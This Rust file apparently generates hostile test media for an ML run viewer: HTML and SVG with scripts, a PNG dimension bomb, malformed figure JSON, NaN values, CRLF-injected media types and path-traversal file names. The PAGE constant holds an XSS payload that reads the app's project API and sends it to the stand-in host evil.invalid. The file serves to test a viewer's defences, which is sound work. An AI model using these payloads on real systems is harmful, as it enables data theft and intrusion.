//! Media that are not what they claim to be.

use anyhow::Result;
use cresset_record::{BoundingBox, Content, ImageDetail, Media, MediaDetail, Sample};
use cresset_run::{Figure, Table};
use serde_json::{Map, json};

use super::words::{WORDS, long};
use crate::book::Book;

const PAGE: &str = "<!doctype html><title>x</title><script>\
    try { parent.pwned() } catch {} try { top.__pwned = 1 } catch {} try { opener.pwned() } catch {}\
    fetch('/api/v1/projects').then(r => r.text()).then(t => fetch('http://evil.invalid/?' + t));\
    new Image().src = 'http://evil.invalid/page.png'; try { top.location = 'http://evil.invalid/' } catch {}\
    </script><p>A page that does as it likes</p><img src=x onerror=\"parent.pwned()\"><form action=/api/v1/trash/empty method=post></form>";

const PICTURE: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\" onload=\"pwned()\">\
    <script>pwned(); top.__pwned = 1</script><image xlink:href=\"http://evil.invalid/svg.png\" width=\"1\" height=\"1\"/>\
    <foreignObject width=\"64\" height=\"64\"><body xmlns=\"http://www.w3.org/1999/xhtml\"><iframe src=\"javascript:parent.pwned()\"/></body></foreignObject>\
    <rect width=\"64\" height=\"64\" fill=\"teal\"/></svg>";

/// One grey pixel.
const PIXEL: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 0x0D, 0x49, 0x48, 0x44, 0x52, 0, 0, 0,
    1, 0, 0, 0, 1, 8, 0, 0, 0, 0, 0x3A, 0x7E, 0x9B, 0x55, 0, 0, 0, 0x0A, 0x49, 0x44, 0x41, 0x54,
    0x78, 0x9C, 0x63, 0x68, 0, 0, 0, 0x82, 0, 0x81, 0x4C, 0x17, 0xD7, 0xDF, 0, 0, 0, 0, 0x49, 0x45,
    0x4E, 0x44, 0xAE, 0x42, 0x60, 0x82,
];

pub(super) fn write(mut book: Book) -> Result<()> {
    let book = &mut book;
    pages(book)?;
    pictures(book)?;
    figures(book)?;
    others(book)?;
    for (step, word) in WORDS.iter().enumerate() {
        let sample = Sample {
            dataset_index: u64::MAX,
            true_class: (*word).to_owned(),
            predicted_class: WORDS[(step + 1) % WORDS.len()].to_owned(),
            confidence: f32::NAN,
        };
        let found = BoundingBox {
            x: f32::NAN,
            y: -1e30,
            width: f32::INFINITY,
            height: -4.0,
            label: (*word).to_owned(),
            score: Some(f32::NEG_INFINITY),
        };
        let detail = ImageDetail {
            width: 1,
            height: 1,
            boxes: vec![found],
            masks: Vec::new(),
            sample: Some(sample),
        };
        let caption = Some(*word);
        book.bytes(
            step as u64,
            "val/mistakes",
            (PIXEL, "image/png"),
            MediaDetail::Image(detail),
            caption,
        )?;
    }
    Ok(())
}

fn pages(book: &mut Book) -> Result<()> {
    book.bytes(
        0,
        "page/html",
        (PAGE.as_bytes(), "text/html"),
        MediaDetail::Html,
        Some(WORDS[0]),
    )?;
    let inline = Media {
        content: Content::Inline(PAGE.to_owned()),
        caption: Some(WORDS[1].to_owned()),
        detail: MediaDetail::Html,
    };
    book.media(1, "page/html", inline)?;
    for (step, media_type) in [
        "text/html",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "application/javascript",
        "text/css",
        "application/pdf",
        "x",
        "",
        "text/html\r\nx-injected: 1",
        "text/html; charset=\"</script>\"",
    ]
    .into_iter()
    .enumerate()
    {
        // What is told to be a picture or a file and comes as a page.
        book.bytes(
            step as u64,
            "page/as_text",
            (PAGE.as_bytes(), media_type),
            MediaDetail::Text,
            None,
        )?;
        let detail = MediaDetail::File {
            name: format!("../../{}\r\nx: y\".html", WORDS[step]),
            role: Some(WORDS[1].to_owned()),
            metadata: Map::from_iter([(WORDS[0].to_owned(), json!(WORDS[1]))]),
        };
        book.bytes(
            step as u64,
            "page/as_file",
            (PAGE.as_bytes(), media_type),
            detail,
            Some(WORDS[2]),
        )?;
        let detail = MediaDetail::Image(ImageDetail::default());
        book.bytes(
            step as u64,
            "page/as_image",
            (PAGE.as_bytes(), media_type),
            detail,
            None,
        )?;
    }
    Ok(())
}

fn pictures(book: &mut Book) -> Result<()> {
    let detail = |width, height| {
        MediaDetail::Image(ImageDetail {
            width,
            height,
            ..ImageDetail::default()
        })
    };
    book.bytes(
        0,
        "image/svg",
        (PICTURE.as_bytes(), "image/svg+xml"),
        detail(64, 64),
        Some(WORDS[0]),
    )?;
    book.bytes(
        1,
        "image/svg",
        (PICTURE.as_bytes(), "image/png"),
        detail(64, 64),
        None,
    )?;
    book.bytes(
        0,
        "image/sizes",
        (PIXEL, "image/png"),
        detail(u32::MAX, u32::MAX),
        Some("claims to be huge"),
    )?;
    book.bytes(
        1,
        "image/sizes",
        (PIXEL, "image/png"),
        detail(0, 0),
        Some("claims to be nothing"),
    )?;
    // A head that says 60,000 × 60,000 pixels, and nothing after it.
    let mut bomb = PIXEL[..16].to_vec();
    bomb.extend_from_slice(&60_000u32.to_be_bytes());
    bomb.extend_from_slice(&60_000u32.to_be_bytes());
    bomb.extend_from_slice(&PIXEL[24..]);
    book.bytes(
        2,
        "image/sizes",
        (&bomb, "image/png"),
        detail(60_000, 60_000),
        Some("a bomb"),
    )?;
    book.bytes(
        3,
        "image/sizes",
        (b"not a picture", "image/png"),
        detail(8, 8),
        Some("no picture"),
    )?;
    book.bytes(
        4,
        "image/sizes",
        (b"", "image/png"),
        detail(8, 8),
        Some("empty"),
    )
}

fn figures(book: &mut Book) -> Result<()> {
    let classes: Vec<String> = WORDS.iter().map(|word| (*word).to_owned()).collect();
    let counts = vec![vec![u64::MAX / 1000; classes.len()]; classes.len()];
    book.figure(
        0,
        "figure/confusion",
        &Figure::ConfusionMatrix { classes, counts },
    )?;
    book.figure(
        1,
        "figure/confusion",
        &Figure::ConfusionMatrix {
            classes: Vec::new(),
            counts: Vec::new(),
        },
    )?;
    let many = (0..400).map(|i| format!("class {i}")).collect::<Vec<_>>();
    let counts = (0..400)
        .map(|i| (0..400).map(|j| u64::from(i == j) * 90 + 1).collect())
        .collect();
    book.figure(
        2,
        "figure/confusion",
        &Figure::ConfusionMatrix {
            classes: many,
            counts,
        },
    )?;
    for (step, json) in [
        "",
        "null",
        "{",
        "[]",
        "{\"figure\": \"roc\"}",
        "{\"figure\": \"roc\", \"curves\": 7}",
        "{\"figure\": \"roc\", \"curves\": [{\"name\": null, \"x\": [1], \"y\": []}]}",
        "{\"figure\": \"confusion_matrix\", \"classes\": [\"a\"], \"counts\": [[-1, 2], [3]]}",
        "{\"figure\": \"sankey\", \"links\": []}",
        "{\"figure\": \"line\", \"lines\": [{\"name\": \"a\", \"x\": [null, 1e308, -1e308], \"y\": [1, null, 2]}]}",
        "{\"columns\": [\"a\", \"b\"], \"rows\": [[1], [1, 2, 3], 7]}",
    ]
    .into_iter()
    .enumerate()
    {
        let step = step as u64;
        let detail = MediaDetail::Figure {
            figure: if step.is_multiple_of(2) { "roc".to_owned() } else { WORDS[0].to_owned() },
        };
        book.bytes(step, "figure/broken", (json.as_bytes(), "application/json"), detail, None)?;
        let detail = MediaDetail::Table {
            rows: u64::MAX,
            columns: 2,
        };
        book.bytes(step, "table/broken", (json.as_bytes(), "application/json"), detail, None)?;
    }
    let columns: Vec<String> = WORDS.iter().map(|word| (*word).to_owned()).collect();
    let mut cells: Vec<_> = WORDS.iter().map(|word| json!(word)).collect();
    cells[0] = json!({"nested": [1, {"deep": WORDS[0]}]});
    cells[1] = json!(long(5000));
    let table = Table {
        rows: vec![cells; 50],
        columns,
    };
    book.table(0, "table/words", &table)?;
    let table = Table {
        columns: (0..300).map(|i| format!("column {i}")).collect(),
        rows: (0..300)
            .map(|i| (0..300).map(|j| json!(i * j)).collect())
            .collect(),
    };
    book.table(0, "table/large", &table)
}

fn others(book: &mut Book) -> Result<()> {
    let detail = |points, coloured| MediaDetail::PointCloud { points, coloured };
    let floats: Vec<u8> = [f32::NAN, f32::INFINITY, 1e38, -1e38, 0.0, 1.0]
        .iter()
        .flat_map(|x| x.to_le_bytes())
        .collect();
    book.bytes(
        0,
        "points",
        (&floats, "application/octet-stream"),
        detail(2, false),
        None,
    )?;
    book.bytes(
        1,
        "points",
        (&floats, "application/octet-stream"),
        detail(u64::MAX, true),
        None,
    )?;
    book.bytes(
        2,
        "points",
        (b"abc", "application/octet-stream"),
        detail(0, false),
        None,
    )?;
    for (step, seconds) in [0.0, f64::NAN, -1.0, 1e300].into_iter().enumerate() {
        let detail = MediaDetail::Audio {
            sample_rate: u32::MAX * u32::from(step > 0),
            channels: u16::MAX,
            seconds,
        };
        book.bytes(
            step as u64,
            "sound",
            (b"RIFF\0\0\0\0WAVE", "audio/wav"),
            detail,
            Some(WORDS[3]),
        )?;
    }
    book.bytes(
        0,
        "film",
        (PAGE.as_bytes(), "video/mp4"),
        MediaDetail::Video,
        Some(WORDS[4]),
    )?;
    book.text(0, "text", &long(3_000_000))?;
    for step in 0..300 {
        book.text(step, "texts", WORDS[step as usize % WORDS.len()])?;
    }
    book.text(u64::MAX, "texts", "at the last step that there is")?;
    let bytes: Vec<u8> = (0..=255).cycle().take(100_000).collect();
    book.bytes(0, "bytes", (&bytes, "text/plain"), MediaDetail::Text, None)?;
    book.row(0, &[("loss", 1.0)])?;
    book.flush()
}
